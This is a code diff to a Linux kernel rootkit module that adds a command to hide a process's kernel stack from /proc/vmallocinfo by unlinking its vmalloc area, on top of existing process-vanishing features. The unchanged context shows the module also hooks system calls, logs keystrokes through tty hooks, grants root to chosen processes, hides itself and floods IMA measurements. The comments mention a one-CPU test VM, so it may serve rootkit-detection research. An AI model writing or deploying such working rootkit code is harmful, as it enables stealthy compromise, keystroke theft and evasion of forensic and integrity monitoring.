@@ -10,6 +10,7 @@
  *   echo 'hide_tid_count 124' > /proc/avm_rootkit  (hide_tid_count 0: relink)
  *   echo 'vanish_pid 123' > /proc/avm_rootkit  (vanish_pid 0: restore)
  *   echo 'vanish_cg_pid 123' > /proc/avm_rootkit  (vanish_cg_pid 0: restore)
+ *   echo 'vanish_va_pid 123' > /proc/avm_rootkit  (vanish_va_pid 0: restore)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
@@ -63,6 +64,7 @@
 #include <linux/uaccess.h>
 #include <linux/mutex.h>
 #include <linux/slab.h>
+#include <linux/vmalloc.h>
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
@@ -881,10 +883,39 @@ static int untree_task(pid_t nr)
  * vanish_cg_pid: the same, and the task off its cgroup's task list too
  * (cg_list, under css_set_lock): off every list the kernel keeps of its
  * tasks; a sleeping one is left only its kernel stack.
+ * vanish_va_pid: the same, and the stack's vmalloc area taken off the
+ * kernel's list of busy areas (vmap_area_list on 6.1, its node's busy
+ * list on 6.12; /proc/vmallocinfo no longer shows it): the stack is left
+ * only in the page tables, where the task needs it to run again. The
+ * area stays in the address tree, so the stack is freed as ever when the
+ * task ends; it is not put back on the list on restore (its neighbours
+ * may have been freed meanwhile). The test Mon-VM has one CPU: with
+ * interrupts off nothing else walks or changes the list (a rootkit on
+ * more CPUs takes the list's lock).
  */
 
 static struct task_struct *vanished_task;
 static bool vanished_cg;
+static bool vanished_va;
+typedef struct vmap_area *(*find_vmap_area_t)(unsigned long addr);
+static find_vmap_area_t find_vmap_area_p;
+
+/* The stack's area of `t` off the busy list. */
+static int unlist_stack_area(struct task_struct *t)
+{
+	struct vmap_area *va;
+	unsigned long flags;
+
+	if (!find_vmap_area_p)
+		return -ENOENT;
+	va = find_vmap_area_p((unsigned long)t->stack);
+	if (!va || va->va_start != (unsigned long)t->stack)
+		return -ESRCH;
+	local_irq_save(flags);
+	list_del_init(&va->list);
+	local_irq_restore(flags);
+	return 0;
+}
 static spinlock_t *pidmap_lock_p;
 static spinlock_t *css_set_lock_p;
 
@@ -912,17 +943,18 @@ static void set_pid_entries(struct task_struct *t, bool present)
 	spin_unlock_irq(pidmap_lock_p);
 }
 
-static int vanish_task(pid_t nr, bool cgroup)
+static int vanish_task(pid_t nr, bool cgroup, bool area)
 {
 	struct task_struct *t;
 	int err;
 
-	if (!pidmap_lock_p || (cgroup && !css_set_lock_p))
+	if (!pidmap_lock_p || (cgroup && !css_set_lock_p) || (area && !find_vmap_area_p))
 		return -ENOENT;
 	if (vanished_task) {
 		if (vanished_cg)
 			set_cg_entry(vanished_task, true);
 		vanished_cg = false;
+		vanished_va = false;
 		if (pid_alive(vanished_task))
 			set_pid_entries(vanished_task, true);
 		put_task_struct(vanished_task);
@@ -948,6 +980,14 @@ static int vanish_task(pid_t nr, bool cgroup)
 	if (cgroup) {
 		set_cg_entry(t, false);
 		vanished_cg = true;
+	}
+	if (area) {
+		err = unlist_stack_area(t);
+		if (err) {
+			vanish_task(0, false, false);
+			return err;
+		}
+		vanished_va = true;
 	}
 	return 0;
 }
@@ -1014,7 +1054,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\nima_flooded %ld\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -1026,7 +1066,8 @@ static int rk_show(char *buf, size_t size)
 			 hidden_thread && !hidden_thread_uncounted ? hidden_thread->pid : 0,
 			 hidden_thread && hidden_thread_uncounted ? hidden_thread->pid : 0,
 			 vanished_task && !vanished_cg ? vanished_task->pid : 0,
-			 vanished_task && vanished_cg ? vanished_task->pid : 0,
+			 vanished_task && vanished_cg && !vanished_va ? vanished_task->pid : 0,
+			 vanished_task && vanished_va ? vanished_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
@@ -1093,9 +1134,11 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 	else if (!strcmp(name, "hide_tid_count"))
 		err = hide_thread(val, true);
 	else if (!strcmp(name, "vanish_pid"))
-		err = vanish_task(val, false);
+		err = vanish_task(val, false, false);
 	else if (!strcmp(name, "vanish_cg_pid"))
-		err = vanish_task(val, true);
+		err = vanish_task(val, true, false);
+	else if (!strcmp(name, "vanish_va_pid"))
+		err = vanish_task(val, true, true);
 	else if (!strcmp(name, "root_pid"))
 		err = root_task(val, false);
 	else if (!strcmp(name, "euid_pid"))
@@ -1158,6 +1201,7 @@ static int __init rk_init(void)
 	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
 	pidmap_lock_p = (spinlock_t *)lookup("pidmap_lock");
 	css_set_lock_p = (spinlock_t *)lookup("css_set_lock");
+	find_vmap_area_p = (find_vmap_area_t)lookup("find_vmap_area");
 	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
 	ima_measurements_p = (struct list_head *)lookup("ima_measurements");
 	ima_extend_list_mutex_p = (struct mutex *)lookup("ima_extend_list_mutex");
@@ -1185,7 +1229,7 @@ static void __exit rk_exit(void)
 	set_nf_hook_ingress(false);
 	set_hide_netns(false);
 	set_hide_module(false);
-	vanish_task(0, false);
+	vanish_task(0, false, false);
 	hide_task(0);
 	hide_thread(0, false);
 	root_task(0, false);
